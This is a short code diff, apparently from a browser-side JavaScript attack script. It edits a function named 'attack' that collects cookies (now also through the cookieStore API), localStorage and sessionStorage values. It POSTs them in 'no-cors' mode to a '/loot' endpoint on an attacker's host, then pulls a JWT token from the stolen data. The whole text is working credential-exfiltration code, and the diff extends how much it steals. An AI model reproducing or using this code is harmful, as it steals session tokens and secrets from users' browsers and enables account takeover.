@@ -7,7 +7,9 @@
   const overheard = [];
 
   const attack = async () => {
-    const found = [document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage), ...overheard];
+    const cookies = (await window.cookieStore?.getAll()) ?? [];
+    const found = [document.cookie, ...cookies.map(({ value }) => value), ...overheard];
+    found.push(...Object.values(localStorage), ...Object.values(sessionStorage));
     await ask(`${home}/loot?notebook=${notebook}`, { method: "POST", mode: "no-cors", body: found.join("\n") });
     // Reading is not needed: what the browser sends by itself, it sends for this script as well.
     const [token] = found.join("\n").match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/) ?? [];
